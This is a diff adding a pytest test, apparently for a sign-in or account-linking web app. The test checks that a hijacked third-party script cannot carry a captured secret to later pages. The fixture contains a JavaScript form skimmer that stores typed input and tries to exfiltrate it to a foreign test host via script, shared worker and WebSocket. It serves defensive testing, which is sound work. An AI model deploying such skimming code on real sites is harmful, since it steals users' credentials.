@@ -595,6 +595,36 @@ def test_what_a_page_repeats_of_the_key_is_told_by_nobody(sites: tuple[Site, Sit
     assert "Success" in told and PASSWORD not in told and SECRET not in told
 
 
+@pytest.mark.parametrize("redirected", [False, True])
+def test_a_script_that_saw_a_secret_carries_it_to_no_later_page(
+    redirected: bool, sites: tuple[Site, Site], in_browser: Run
+) -> None:
+    """One that is in all pages of a portal, and is no longer its author's; what it draws is drawn nevertheless."""
+    own, foreign = sites
+    good_site(own)
+    there = {"url": f"{foreign.url}/taken", "ws": f"{foreign.url}/taken".replace("http", "ws"), "taken": "kept"}
+    ways = (WAYS[way].format(**there) for way in ("a script", "a shared worker", "a WebSocket"))
+    tries = " ".join(f"{{ {way} }}" for way in ways)
+    foreign.answers["/menu.js"] = (
+        200,
+        {"Content-Type": "text/javascript"},
+        "addEventListener('input', event => { sessionStorage.kept = [...event.target.value].reverse().join('') });"
+        "if (location.pathname === '/home') document.body.innerHTML = '<a href=/link>Link Mechanical Turk</a>';"
+        f"const kept = sessionStorage.kept; if (kept) {{ {tries} }}",
+    )
+    own.answers["/lib.js"] = (302, {"Location": f"{foreign.url}/menu.js"}, "")
+    tag = f"<body><script src={'/lib.js' if redirected else f'{foreign.url}/menu.js'}></script>"
+    for path in ("/", "/link"):
+        answer = own.answers[path]
+        own.answers[path] = lambda request, answer=answer: tag + (answer(request) if callable(answer) else answer)
+    own.answers["/home"] = f"<title>Home</title>{tag}"
+    if redirected:
+        # A redirect is not followed there any more, so this menu is not drawn again.
+        own.answers["/home"] = HOME
+    assert in_browser(own).link.status == "linked"
+    assert [request.path for request in foreign.requests] == ["/menu.js"]
+
+
 @pytest.mark.parametrize("after", ["/login", "/"])
 def test_from_https_to_http_nobody_is_led(run: Run, after: str, monkeypatch: pytest.MonkeyPatch) -> None:
     """Neither before the sign-in nor after it, when a cookie of the session would go along in clear."""
